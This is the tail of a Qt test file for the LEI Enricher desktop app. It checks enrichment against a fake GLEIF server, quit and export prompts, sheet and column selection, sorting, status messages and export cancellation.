    QVERIFY2(lines.contains(QStringLiteral("NL EUR|7")), qPrintable(all));
    QVERIFY2(lines.contains(QStringLiteral("NL GBP|1")), qPrintable(all));
    QVERIFY2(!lines.contains(QStringLiteral("GB|12")), qPrintable(all));
}

void MainWindowTest::quittingWithAnUnexportedTableAsks()
{
    FakeGleif fake;
    QVERIFY(fake.listen());
    const QString path = write("notional,rate,lei\n763000,0.0070956,XKZZ2JZF41MRHTR1V493\n", QStringLiteral("quit.csv"));
    MainWindow w;
    QVERIFY(openWithFake(w, fake, path, QStringLiteral("quit-cache.sqlite")));
    // Nothing enriched yet: quitting asks nothing (a question would block close() here).
    QString answer;
    int asked = 0;
    QTimer answering;
    answering.setInterval(20);
    connect(&answering, &QTimer::timeout, this, [&] {
        auto *box = qobject_cast<QMessageBox *>(QApplication::activeModalWidget());
        if (!box || box->objectName() != u"quitQuestion")
            return;
        ++asked;
        for (QAbstractButton *b : box->buttons())
            if (b->text() == answer)
                b->click();
    });
    answering.start();
    QSignalSpy finished(&w, &MainWindow::enrichmentFinished);
    QVERIFY(w.enrich());
    QVERIFY(finished.wait(60000));
    answer = QMessageBox::tr("Cancel");
    QVERIFY(!w.close()); // stays
    QCOMPARE(asked, 1);
    QVERIFY(w.isVisible());
    // Exported: nothing to lose, no question.
    QVERIFY(w.exportTo(m_dir.filePath(QStringLiteral("quit.enriched.csv"))));
    QVERIFY(w.close());
    QCOMPARE(asked, 1);
    // Enriched again and not exported: "Quit Without Exporting" quits.
    w.show();
    QVERIFY(w.enrich());
    QVERIFY(finished.wait(60000));
    answer = MainWindow::tr("&Quit Without Exporting");
    QVERIFY(w.close());
    QCOMPARE(asked, 2);
}

void MainWindowTest::leiColumnCanBeChanged()
{
    // Enrich > LEI Column... picks another column without reopening the file; the results made
    // from the other column's LEIs go, and the next Enrich uses the new one.
    FakeGleif fake;
    QVERIFY(fake.listen());
    const QString path = write("lei,other,notional,rate\nXKZZ2JZF41MRHTR1V493,BFXS5XCH7N0Y05NIXW11,1,1\n", QStringLiteral("twocols.csv"));
    MainWindow w;
    QVERIFY(openWithFake(w, fake, path, QStringLiteral("twocols.sqlite")));
    QSignalSpy finished(&w, &MainWindow::enrichmentFinished);
    QVERIFY(w.enrich());
    QVERIFY(finished.wait(60000));
    QAbstractItemModel *model = w.tableView()->model();
    QCOMPARE(model->index(0, 4).data().toString(), QStringLiteral("CITIGROUP GLOBAL MARKETS LIMITED"));
    QAction *change = nullptr;
    for (QAction *a : w.findChildren<QAction *>())
        if (a->text() == MainWindow::tr("LEI &Column..."))
            change = a;
    QVERIFY(change && change->isEnabled());
    QTimer answer;
    answer.setInterval(20);
    connect(&answer, &QTimer::timeout, this, [&] {
        if (auto *dialog = qobject_cast<QInputDialog *>(QApplication::activeModalWidget())) {
            QCOMPARE(dialog->textValue(), QStringLiteral("lei")); // the current one proposed
            dialog->setTextValue(QStringLiteral("other"));
            dialog->accept();
        }
    });
    answer.start();
    change->trigger();
    answer.stop();
    QCOMPARE(qobject_cast<CsvTableModel *>(model)->leiColumn(), 1);
    QCOMPARE(model->columnCount(), 4); // the old results' columns are gone
    QVERIFY(w.enrich());
    QVERIFY(finished.wait(60000));
    QCOMPARE(model->index(0, 4).data().toString(), QStringLiteral("ABN AMRO Bank N.V."));
}

void MainWindowTest::enrichShortcutWorksInTheFilterBox()
{
    // Ctrl+E with the filter box focused enriches (a line edit could claim it as "end of line";
    // on Linux Qt 6.4's does not, and this keeps it so).
    FakeGleif fake;
    QVERIFY(fake.listen());
    const QString path = write("notional,rate,lei\n1,1,XKZZ2JZF41MRHTR1V493\n", QStringLiteral("shortcut.csv"));
    MainWindow w;
    QVERIFY(openWithFake(w, fake, path, QStringLiteral("shortcut.sqlite")));
    w.activateWindow();
    QVERIFY(QTest::qWaitForWindowActive(&w));
    w.filterBox()->setFocus();
    QTRY_VERIFY_WITH_TIMEOUT(w.filterBox()->hasFocus(), 60000);
    QSignalSpy finished(&w, &MainWindow::enrichmentFinished);
    QTest::keyClick(w.filterBox(), Qt::Key_E, Qt::ControlModifier);
    QVERIFY(finished.size() == 1 || finished.wait(60000)); // Ctrl+E enriched, the filter box had it
    QCOMPARE(w.tableView()->model()->index(0, 3).data().toString(), QStringLiteral("CITIGROUP GLOBAL MARKETS LIMITED"));
}

void MainWindowTest::detailsShowTheSelectedRowsEntity()
{
    FakeGleif fake;
    QVERIFY(fake.listen());
    const QString path = write("notional,rate,lei\n763000,0.0070956,XKZZ2JZF41MRHTR1V493\n1,1,bad\n", QStringLiteral("details.csv"));
    MainWindow w;
    QVERIFY(openWithFake(w, fake, path, QStringLiteral("details.sqlite")));
    QVERIFY(enrichAndWait(w));
    QDockWidget *dock = w.findChild<QDockWidget *>(QStringLiteral("detailsDock"));
    QVERIFY(dock);
    DetailsPanel *panel = w.detailsPanel();
    QSignalSpy shown(panel, &DetailsPanel::shown);
    dock->show();
    w.tableView()->setCurrentIndex(w.tableView()->model()->index(0, 0));
    QTRY_VERIFY_WITH_TIMEOUT(panel->details().lei == u"XKZZ2JZF41MRHTR1V493" && !panel->details().source.isEmpty(), 60000);
    const EntityDetails &d = panel->details();
    QCOMPARE(d.source, QStringLiteral("cache"));
    QVERIFY(d.asOf.isValid());
    const QString text = panel->fieldsText();
    QVERIFY2(text.contains(QStringLiteral("Legal name: CITIGROUP GLOBAL MARKETS LIMITED")), qPrintable(text));
    QVERIFY2(text.contains(QStringLiteral("BICs: SBILGB2LXXX")), qPrintable(text));
    QVERIFY2(text.contains(QStringLiteral("Legal address: ")), qPrintable(text)); // from the raw record
    QVERIFY(!d.rawJson.isEmpty());
    QVERIFY(panel->findChild<QTextBrowser *>(QStringLiteral("detailsView"))->toHtml().contains(
        QStringLiteral("https://search.gleif.org/#/record/XKZZ2JZF41MRHTR1V493")));
    // Dates in the window's format (the copy keeps GLEIF's ISO text).
    QVERIFY2(text.contains(QStringLiteral("2099-01-01T00:00:00Z")), qPrintable(text));
    const QString shownText = panel->findChild<QTextBrowser *>(QStringLiteral("detailsView"))->toPlainText();
    QString format = QLocale().dateFormat(QLocale::ShortFormat);
    if (!format.contains(QStringLiteral("yyyy")))
        format.replace(QStringLiteral("yy"), QStringLiteral("yyyy")); // the whole year always
    QVERIFY2(shownText.contains(QLocale().toString(QDate(2099, 1, 1), format)), qPrintable(shownText));
    QVERIFY2(!shownText.contains(QStringLiteral("2099-01-01T")), qPrintable(shownText));
    // A row whose LEI is not valid: nothing to show.
    w.tableView()->setCurrentIndex(w.tableView()->model()->index(1, 0));
    QTRY_VERIFY_WITH_TIMEOUT(panel->details().lei.isEmpty(), 60000);
}

void MainWindowTest::parentsAreAskedAboutOverAHundredRequests_data()
{
    QTest::addColumn<int>("entities"); // 12 parent requests per ten
    QTest::addColumn<QString>("answer"); // the button clicked; empty: no question expected
    QTest::newRow("60 requests: not asked") << 50 << QString();
    QTest::newRow("120 requests: looked up") << 100 << QStringLiteral("&Look Up Parents");
    QTest::newRow("120 requests: skipped") << 100 << QStringLiteral("&Skip Parents");
}

void MainWindowTest::parentsAreAskedAboutOverAHundredRequests()
{
    // Over 100 parent requests the window asks first, without blocking, and nothing is sent
    // while it asks; skipped, the parent columns stay empty and the status bar says why.
    QFETCH(int, entities);
    QFETCH(QString, answer);
    FakeGleif fake;
    FakeGleif::Options o;
    o.syntheticEntities = entities;
    fake.setOptions(o);
    QVERIFY(fake.listen());
    // Up to 130 requests go through the process-wide rate limiter, which the next tests share at
    // 60 a minute: afterwards its clock moves on past the window, as if a minute had passed.
    // (Each row two minutes further: what a row sent was stamped with the clock it ran under.)
    const auto windowPassed = qScopeGuard([] {
        static int rows = 0;
        const auto ahead = std::chrono::minutes(2) * ++rows;
        RateLimiter::processWide()->setClock([ahead] { return RateLimiter::Clock::now() + ahead; });
    });
    QByteArray csv = "notional,rate,lei\n";
    for (int i = 0; i < entities; ++i)
        csv += "1000,0.5," + FakeGleif::syntheticLei(i).toLatin1() + "\n";
    const QString tag = QString::fromLatin1(QTest::currentDataTag()).left(3).trimmed() + (answer.contains(u'S') ? u"s" : u"l");
    const QString path = write(csv, QStringLiteral("parents-%1.csv").arg(tag));
    MainWindow w;
    w.show();
    EnrichmentSettings s = fakeSettings(fake, m_dir.filePath(QStringLiteral("parents-%1.sqlite").arg(tag)));
    s.gleif.requestsPerMinute = 100000;
    s.fields = {Fields::Id::LegalName, Fields::Id::DirectParentLei, Fields::Id::UltimateParentException};
    w.setEnrichmentSettings(s);
    QSignalSpy ready(&w, &MainWindow::fileReady);
    QVERIFY(w.openFile(path));
    QVERIFY(ready.wait(60000));
    QSignalSpy finished(&w, &MainWindow::enrichmentFinished);
    QVERIFY(w.enrich());
    if (!answer.isEmpty()) {
        QMessageBox *question = nullptr;
        QTRY_VERIFY_WITH_TIMEOUT((question = w.findChild<QMessageBox *>(QStringLiteral("parentsQuestion"))) != nullptr, 60000);
        QVERIFY2(question->text().contains(QStringLiteral("120 request")), qPrintable(question->text()));
        QCOMPARE(fake.parentRequests(), 0);
        QCOMPARE(finished.size(), 0);
        QAbstractButton *button = nullptr;
        for (QAbstractButton *b : question->buttons())
            if (b->text() == answer)
                button = b;
        QVERIFY(button);
        button->click();
    }
    QVERIFY(finished.size() > 0 || finished.wait(60000));
    const bool lookedUp = !answer.contains(QStringLiteral("Skip"));
    QCOMPARE(fake.parentRequests(), lookedUp ? 12 * entities / 10 : 0);
    const QAbstractItemModel *model = w.tableView()->model();
    QCOMPARE(model->headerData(4, Qt::Horizontal).toString(), QStringLiteral("directParentLei"));
    QCOMPARE(model->headerData(5, Qt::Horizontal).toString(), QStringLiteral("ultimateParentException"));
    for (int row = 0; row < entities; ++row) {
        const FakeGleif::SyntheticParent direct = FakeGleif::syntheticDirectParent(row);
        const QString want = lookedUp && direct.parentIndex >= 0 ? FakeGleif::syntheticLei(direct.parentIndex) : QString();
        QCOMPARE(model->index(row, 4).data().toString(), want);
        QCOMPARE(model->index(row, 5).data().toString(), lookedUp ? FakeGleif::syntheticUltimateParent(row).exception : QString());
        QCOMPARE(model->index(row, 7).data().toString(), QStringLiteral("ok"));
    }
    if (!lookedUp)
        QVERIFY2(w.statusBar()->currentMessage().contains(QStringLiteral("parent fields left empty")),
                 qPrintable(w.statusBar()->currentMessage()));
}

void MainWindowTest::storedTimeoutOfZeroIsSaid()
{
    // A timeout of 0 in the settings file is replaced by the default, and the window says so.
    QSettings().setValue(QStringLiteral("gleif/timeoutSeconds"), 0);
    const auto forget = qScopeGuard([] { QSettings().remove(QStringLiteral("gleif/timeoutSeconds")); });
    MainWindow w;
    w.show();
    const QString message = w.statusBar()->currentMessage();
    QVERIFY2(message.contains(QStringLiteral("gleif/timeoutSeconds")), qPrintable(message));
    QCOMPARE(w.settings().enrichment.gleif.timeout, GleifSettings().timeout);
}

void MainWindowTest::twoLeiColumnsAreAskedAbout()
{
    const QString path = write("lei,notional, LEI\nx,1,XKZZ2JZF41MRHTR1V493\n", QStringLiteral("twolei.csv"));
    MainWindow w;
    w.show();
    QSignalSpy ready(&w, &MainWindow::fileReady);
    bool asked = false;
    QTimer answer;
    answer.setInterval(20);
    connect(&answer, &QTimer::timeout, this, [&] {
        if (auto *dialog = qobject_cast<QInputDialog *>(QApplication::activeModalWidget())) {
            asked = true;
            QCOMPARE(dialog->comboBoxItems(), (QStringList{QStringLiteral("lei (column 1)"), QStringLiteral("notional"),
                                                           QStringLiteral(" LEI (column 3)"),
                                                           QStringLiteral("No LEI column: find LEIs by name...")}));
            QVERIFY(dialog->labelText().contains(QStringLiteral("More than one column")));
            dialog->setTextValue(QStringLiteral(" LEI (column 3)"));
            dialog->accept();
        }
    });
    answer.start();
    QVERIFY(w.openFile(path));
    QVERIFY(ready.wait(60000));
    QVERIFY(asked);
    QCOMPARE(w.tableModel()->leiColumn(), 2);
    QCOMPARE(w.invalidLeiCount(), 0);
}

void MainWindowTest::copyTreatsALongRowsExtraFieldsAsInput_data()
{
    QTest::addColumn<bool>("enriched");
    QTest::addColumn<bool>("neutralise");
    QTest::addColumn<QString>("copied");
    QTest::newRow("enriched, setting off") << true << false << QStringLiteral("=1+1\n");
    QTest::newRow("enriched, setting on") << true << true << QStringLiteral("'=1+1\n");
    QTest::newRow("not enriched, setting off") << false << false << QStringLiteral("=1+1\n");
    QTest::newRow("not enriched, setting on") << false << true << QStringLiteral("'=1+1\n");
}

void MainWindowTest::copyTreatsALongRowsExtraFieldsAsInput()
{
    // A long row's extra fields (the "extra N" columns after the added ones) are the input's
    // own cells: neutralised on the clipboard only when the setting says so, like the others.
    QFETCH(bool, enriched);
    QFETCH(bool, neutralise);
    QFETCH(QString, copied);
    FakeGleif fake;
    QVERIFY(fake.listen());
    const QString path = write("notional,rate,lei\n763000,0.0070956,XKZZ2JZF41MRHTR1V493,=1+1\n", QStringLiteral("extracopy.csv"));
    MainWindow w;
    w.show();
    w.setEnrichmentSettings(fakeSettings(fake, m_dir.filePath(QStringLiteral("extracopy.sqlite"))));
    AppSettings settings = w.settings();
    const bool before = settings.neutraliseFormulas;
    settings.neutraliseFormulas = neutralise;
    w.setSettings(settings);
    const auto restore = qScopeGuard([&] {
        settings.neutraliseFormulas = before;
        w.setSettings(settings);
    });
    QSignalSpy ready(&w, &MainWindow::fileReady);
    QVERIFY(w.openFile(path));
    QVERIFY(ready.wait(60000));
    if (enriched) {
        QSignalSpy finished(&w, &MainWindow::enrichmentFinished);
        QVERIFY(w.enrich());
        QVERIFY(finished.wait(60000));
    }
    QAbstractItemModel *model = w.tableView()->model();
    QCOMPARE(model->columnCount(), enriched ? 9 : 4);
    const QModelIndex extra = model->index(0, model->columnCount() - 1);
    QCOMPARE(model->headerData(extra.column(), Qt::Horizontal).toString(), QStringLiteral("extra 1"));
    QCOMPARE(extra.data().toString(), QStringLiteral("=1+1"));
    w.tableView()->clearSelection();
    w.tableView()->selectionModel()->select(extra, QItemSelectionModel::Select);
    w.copySelection();
    QCOMPARE(QGuiApplication::clipboard()->text(), copied);
}

void MainWindowTest::enrichKeepsTheSort()
{
    FakeGleif fake;
    QVERIFY(fake.listen());
    const QString path = write("name,notional,rate,lei\nbeta,10,1,XKZZ2JZF41MRHTR1V493\nAlpha,9,1,BFXS5XCH7N0Y05NIXW11\n"
                               "gamma,,1,nonsense\n",
                               QStringLiteral("keepsort.csv"));
    MainWindow w;
    QVERIFY(openWithFake(w, fake, path, QStringLiteral("keepsort.sqlite")));
    QAbstractItemModel *model = w.tableView()->model();
    auto names = [&] {
        QStringList out;
        for (int r = 0; r < model->rowCount(); ++r)
            out << model->index(r, 0).data().toString();
        return out;
    };
    const QStringList descending{QStringLiteral("gamma"), QStringLiteral("beta"), QStringLiteral("Alpha")};
    w.sortBy(0, Qt::DescendingOrder);
    QCOMPARE(names(), descending);
    QVERIFY(enrichAndWait(w));
    QCOMPARE(names(), descending);
    const QHeaderView *header = w.tableView()->horizontalHeader();
    QVERIFY(header->isSortIndicatorShown());
    QCOMPARE(header->sortIndicatorSection(), 0);
    QCOMPARE(header->sortIndicatorOrder(), Qt::DescendingOrder);
    // The added columns sit beside the sorted rows: gamma's LEI is invalid.
    QCOMPARE(model->index(0, model->columnCount() - 1).data().toString(), QStringLiteral("invalid_lei"));
}

void MainWindowTest::statusBarSaysOnlyTheOpenFilesState()
{
    FakeGleif fake;
    QVERIFY(fake.listen());
    const QString first = write("name,notional,rate,lei\nbeta,10,1,XKZZ2JZF41MRHTR1V493\nAlpha,9,1,BFXS5XCH7N0Y05NIXW11\n"
                                "gamma,,1,nonsense\n",
                                QStringLiteral("status1.csv"));
    const QString second = write("notional,rate,lei\n1,1,XKZZ2JZF41MRHTR1V493\n", QStringLiteral("status2.csv"));
    MainWindow w;
    QVERIFY(openWithFake(w, fake, first, QStringLiteral("status.sqlite")));
    QVERIFY(enrichAndWait(w));
    QVERIFY(!w.statusBar()->currentMessage().isEmpty()); // the run's summary

    // Typed: one pass for what was typed, then the count; the busy indicator goes with the pass.
    QSignalSpy reordered(&w, &MainWindow::rowOrderChanged);
    QTest::keyClicks(w.filterBox(), QStringLiteral("gam"));
    QVERIFY(reordered.wait(60000));
    QCOMPARE(w.tableView()->model()->rowCount(), 1);
    QCOMPARE(w.statusBar()->currentMessage(), QStringLiteral("Showing 1 of 3 rows"));
    auto *busy = w.statusBar()->findChild<QWidget *>(QStringLiteral("filterBusy"));
    QVERIFY(busy);
    QVERIFY(busy->isHidden());

    // Cleared: all rows, and no count left behind.
    w.filterBox()->clear();
    QTRY_COMPARE_WITH_TIMEOUT(w.tableView()->model()->rowCount(), 3, 60000);
    QVERIFY(!w.statusBar()->currentMessage().contains(QStringLiteral("Showing")));

    // Another file: nothing of the first one's run or filter.
    QTest::keyClicks(w.filterBox(), QStringLiteral("alp"));
    QVERIFY(reordered.wait(60000));
    QVERIFY(w.statusBar()->currentMessage().contains(QStringLiteral("Showing")));
    QSignalSpy ready(&w, &MainWindow::fileReady);
    QVERIFY(w.openFile(second));
    QVERIFY(ready.wait(60000));
    QCOMPARE(w.statusBar()->currentMessage(), QString());
    QVERIFY(w.filterBox()->text().isEmpty());
    QVERIFY2(statusText(w).contains(QStringLiteral("1 rows")), qPrintable(statusText(w)));
}

void MainWindowTest::opensAWorkbookAndEnrichesIt()
{
    FakeGleif fake;
    QVERIFY(fake.listen());
    const QString path = m_dir.filePath(QStringLiteral("book.xlsx"));
    QVERIFY(writeCsvAsXlsx(QStringLiteral(LEI_RESOURCES_DIR "/sample_transactions.csv"), path, {2, 6}));
    MainWindow w;
    QVERIFY(openWithFake(w, fake, path, QStringLiteral("book-cache.sqlite")));
    // The window names the workbook, not the converted copy it reads.
    QCOMPARE(w.windowTitle(), QStringLiteral("book.xlsx \u2014 LEI Enricher"));
    QCOMPARE(QSettings().value(QStringLiteral("recentFiles")).toStringList().value(0), QFileInfo(path).absoluteFilePath());
    QAbstractItemModel *model = w.tableView()->model();
    QCOMPARE(model->rowCount(), 20);
    QCOMPARE(model->columnCount(), 8);
    QCOMPARE(model->data(model->index(0, 2)).toString(), QStringLiteral("763000")); // a number cell's text
    QCOMPARE(model->data(model->index(19, 7)).toString(), QStringLiteral("4PQUHN3JPFGFNF3BB653"));
    QCOMPARE(w.invalidLeiCount(), 0);
    QVERIFY(enrichAndWait(w));
    const QString out = m_dir.filePath(QStringLiteral("book.enriched.csv"));
    QVERIFY(w.exportTo(out));
    // UTF-8, comma-separated, LF; every row enriched.
    const QList<QByteArray> lines = readTestFile(out).split('\n');
    QCOMPARE(lines.size(), 22); // header, 20 rows, the last line's end
    QVERIFY(lines[0].startsWith("transaction_uti,isin,notional,"));
    QVERIFY(lines[0].endsWith(",enrichment_status"));
    for (int r = 1; r <= 20; ++r)
        QVERIFY2(lines[r].endsWith(",ok") && !lines[r].contains('\r'), lines[r].constData());
}

void MainWindowTest::asksWhichSheetAndShowsTheWholeSheet()
{
    // More rows than the window shows before the rest is converted.
    const int rows = 20000;
    const QString path = m_dir.filePath(QStringLiteral("sheets.xlsx"));
    lxw_workbook_options options{};
    options.constant_memory = LXW_TRUE;
    lxw_workbook *book = workbook_new_opt(path.toUtf8().constData(), &options);
    worksheet_write_string(workbook_add_worksheet(book, "Notes"), 0, 0, "nothing here", nullptr);
    lxw_worksheet *trades = workbook_add_worksheet(book, "Trades");
    worksheet_write_string(trades, 0, 0, "n", nullptr);
    worksheet_write_string(trades, 0, 1, "lei", nullptr);
    for (int r = 1; r <= rows; ++r) {
        worksheet_write_number(trades, lxw_row_t(r), 0, r, nullptr);
        worksheet_write_string(trades, lxw_row_t(r), 1, "XKZZ2JZF41MRHTR1V493", nullptr);
    }
    QCOMPARE(workbook_close(book), LXW_NO_ERROR);

    MainWindow w;
    w.show();
    QSignalSpy ready(&w, &MainWindow::fileReady);
    QStringList offered;
    QTimer answer;
    answer.setInterval(20);
    connect(&answer, &QTimer::timeout, this, [&] {
        if (auto *dialog = qobject_cast<QInputDialog *>(QApplication::activeModalWidget())) {
            offered = dialog->comboBoxItems();
            QCOMPARE(dialog->textValue(), QStringLiteral("Notes")); // the first is proposed
            dialog->setTextValue(QStringLiteral("Trades"));
            dialog->accept();
        }
    });
    answer.start();
    QVERIFY(w.openFile(path));
    answer.stop();
    QCOMPARE(offered, (QStringList{QStringLiteral("Notes"), QStringLiteral("Trades")}));
    QVERIFY(ready.wait(60000));
    QAbstractItemModel *model = w.tableView()->model();
    QCOMPARE(model->headerData(1, Qt::Horizontal).toString(), QStringLiteral("lei"));
    QCOMPARE(model->rowCount(), rows);
    QCOMPARE(model->data(model->index(rows - 1, 0)).toString(), QString::number(rows));
    QCOMPARE(w.invalidLeiCount(), 0);
    QVERIFY2(statusText(w).contains(QStringLiteral("20,000 rows")), qPrintable(statusText(w)));
}

void MainWindowTest::exportShowsProgressAndCancels_data()
{
    QTest::addColumn<QString>("suffix");
    QTest::addColumn<int>("rows");
    QTest::newRow("csv") << QStringLiteral("csv") << 40000;   // a report every 16,384 rows
    QTest::newRow("xlsx") << QStringLiteral("xlsx") << 70000; // a report every 65,536 rows
}

void MainWindowTest::exportShowsProgressAndCancels()
{
    // Cancel clicked at the first progress report: nothing written, the old file kept, said in
    // the status bar; the progress bar and the button go away.
    QFETCH(QString, suffix);
    QFETCH(int, rows);
    QByteArray csv = "name,notional,rate,lei\n";
    for (int r = 0; r < rows; ++r)
        csv += "row" + QByteArray::number(r) + ",1000,1.5,XKZZ2JZF41MRHTR1V493\n";
    const QString path = write(csv, QStringLiteral("export-cancel-%1.csv").arg(suffix));
    const QString folder = m_dir.filePath(QStringLiteral("export-cancel-") + suffix);
    QVERIFY(QDir().mkpath(folder));
    const QString out = folder + QStringLiteral("/out.") + suffix;
    {
        QFile old(out);
        QVERIFY(old.open(QIODevice::WriteOnly));
        old.write("the previous export\n");
    }
    MainWindow w;
    w.show();
    QSignalSpy ready(&w, &MainWindow::fileReady);
    QVERIFY(w.openFile(path));
    QVERIFY(ready.wait(60000));
    auto *cancel = w.statusBar()->findChild<QPushButton *>(QStringLiteral("cancelExport"));
    QVERIFY(cancel);
    bool shown = false;
    connect(&w, &MainWindow::exportProgress, this, [&](qint64 done, qint64 total) {
        shown = cancel->isVisible() && done > 0 && total == rows;
        cancel->click();
    });
    QVERIFY(!w.exportTo(out));
    QVERIFY(shown);
    QCOMPARE(readTestFile(out), QByteArray("the previous export\n"));
    QVERIFY2(w.statusBar()->currentMessage().contains(QStringLiteral("Export cancelled")), qPrintable(w.statusBar()->currentMessage()));
    QVERIFY(cancel->isHidden());
    const QStringList left = QDir(folder).entryList(QDir::Files | QDir::Hidden);
    QVERIFY2(left == QStringList{QStringLiteral("out.") + suffix}, qPrintable(left.join(u' '))); // no temporary file left
    // Not cancelled: written.
    disconnect(&w, &MainWindow::exportProgress, this, nullptr);
    QVERIFY(w.exportTo(out));
    QVERIFY(readTestFile(out) != QByteArray("the previous export\n"));
}

QTEST_MAIN(MainWindowTest)
#include "mainwindow_test.moc"
